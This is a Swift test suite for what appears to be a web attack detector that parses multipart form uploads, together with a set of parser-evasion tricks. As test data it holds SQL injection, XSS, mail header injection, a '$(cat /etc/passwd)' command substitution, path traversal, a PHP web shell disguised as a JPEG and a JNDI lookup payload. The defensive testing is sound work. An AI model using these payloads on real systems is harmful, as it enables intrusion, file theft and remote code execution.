import Testing

/// Forms sent as multipart/form-data: their parts are judged, not their frame.
@Suite struct FormPartsTests {
    /// A form as browsers send it; `file`: name and content.
    static func form(_ fields: [(String, String)], file: (String, String)? = nil, closed: Bool = true) -> String {
        let edge = "------WebKitFormBoundary89d860631ab6dd83"
        var text = ""
        for (name, value) in fields {
            text += "\(edge)\r\nContent-Disposition: form-data; name=\"\(name)\"\r\n\r\n\(value)\r\n"
        }
        if let (name, content) = file {
            text += "\(edge)\r\nContent-Disposition: form-data; name=\"tep\"; filename=\"\(name)\"\r\n"
            text += "Content-Type: application/pdf\r\n\r\n\(content)\r\n"
        }
        return text + (closed ? "\(edge)--\r\n" : "")
    }

    @Test func anOrdinaryFormIsSilent() {
        let fields = [
            ("ho-ten", "Nguyễn Văn Phúc"), ("dia-chi", "267 đường 30 Tháng 4"), ("ly-do", "thay đổi; số nhà (cũ)"),
        ]
        let file = ("nguyen-van-phuc.pdf", "%PDF-1.4\n" + String(repeating: "0", count: 900))
        #expect(findings(target: "/", body: Self.form(fields, file: file)).isEmpty)
        #expect(findings(target: "/", body: Self.form(fields, file: file, closed: false)).isEmpty)
        #expect(findings(target: "/", body: Self.form(fields).replacingCRLF).isEmpty)
    }

    @Test(arguments: [
        ("ten", "x' or 1=1-- "), ("x' union select 1,2-- ", "a"), ("ten", "<script>alert(1)</script>"),
        ("thu", "a@b.example\r\nBcc: c@d.example\r\n\r\nmua ngay"), ("ten", "$(cat /etc/passwd)"),
    ])
    func anAttackInAPartIsFound(_ field: (String, String)) {
        #expect(!findings(target: "/", body: Self.form([("a", "b"), field, ("c", "d")])).isEmpty)
        #expect(!findings(target: "/", body: Self.form([field], closed: false)).isEmpty)
    }

    @Test func aFileIsJudgedByNameAndContent() {
        let path = ("../../../../etc/passwd", "x")
        #expect(!findings(target: "/", body: Self.form([], file: path)).isEmpty)
        let shell = ("anh.jpg", "<?php system($_GET['c']); ?>")
        #expect(!findings(target: "/", body: Self.form([("a", "b")], file: shell)).isEmpty)
    }

    private static let edge = "--a1"
    private static func raw(_ parts: [String], end: String = "--a1--\r\n") -> String {
        parts.map { "\(edge)\r\n\($0)\r\n" }.joined() + end
    }

    /// Where attacks hide from who reads forms otherwise than the server does.
    @Test(arguments: [
        // Only a line of its own is a delimiter.
        raw(["Content-Disposition: form-data; name=\"a\"\r\n\r\nx\r\n--a1b\r\n1' union select 1,2-- "]),
        // Names without quotes, quotes in names, names in another charset.
        raw(["Content-Disposition: form-data; name=x' or 1=1-- \r\n\r\nx"]),
        raw(["Content-Disposition: form-data; name=\"a\\\"1' union select 1,2-- \"\r\n\r\nx"]),
        raw(["Content-Disposition: form-data; name=\"a\"; filename*=UTF-8''..%2f..%2f..%2fetc%2fpasswd\r\n\r\nx"]),
        // A part's other headers.
        raw(["Content-Disposition: form-data; name=\"a\"\r\nContent-Type: ${jndi:ldap://a.example/x}\r\n\r\nx"]),
        // What is no header, what stands behind the last delimiter, what is no form-data.
        raw(["Content-Disposition: form-data; name=\"a\"\r\n1' union select 1,2-- \r\n\r\nx"]),
        raw(["Content-Disposition: form-data; name=\"a\"\r\n\r\nx"], end: "--a1--\r\n1' union select 1,2-- \r\n"),
        raw(["Content-Disposition: <script>alert(1)</script>; name=\"a\"\r\n\r\nx"]),
        // Another delimiter than the server's cuts a value in two.
        raw(
            ["Content-Disposition: form-data; name=\"a\"\r\n\r\n1' union", "select 1,2 from users where 1=1"], end: ""),
        // Behind very many parts.
        raw([String](repeating: "Content-Disposition: form-data; name=\"a\"\r\n\r\nx", count: 600))
            + "--a1\r\nContent-Disposition: form-data; name=\"b\"\r\n\r\n1' union select 1,2-- \r\n",
    ])
    func noAttackHidesBehindTheFrame(_ body: String) {
        #expect(!findings(target: "/", body: body).isEmpty)
    }

    /// Cut anywhere, a form is read to where it was cut.
    @Test func cutFormsAreRead() {
        let whole = Array(Self.form([("a", "b"), ("c", "d;e")], file: ("x.pdf", "%PDF")).utf8)
        for length in 0...whole.count {
            #expect(findings(target: "/", body: String(decoding: whole.prefix(length), as: UTF8.self)).isEmpty)
        }
    }

    /// What only begins like a form is judged whole, as before.
    @Test(arguments: ["--x' or 1=1-- \r\nContent-Type: text/plain\r\n", "-1' union select 1,2-- "])
    func whatIsNoFormIsJudgedWhole(_ body: String) {
        #expect(!findings(target: "/", body: body).isEmpty)
    }
}

extension String {
    fileprivate var replacingCRLF: String {
        String(decoding: utf8.filter { $0 != 0x0D }, as: UTF8.self)
    }
}
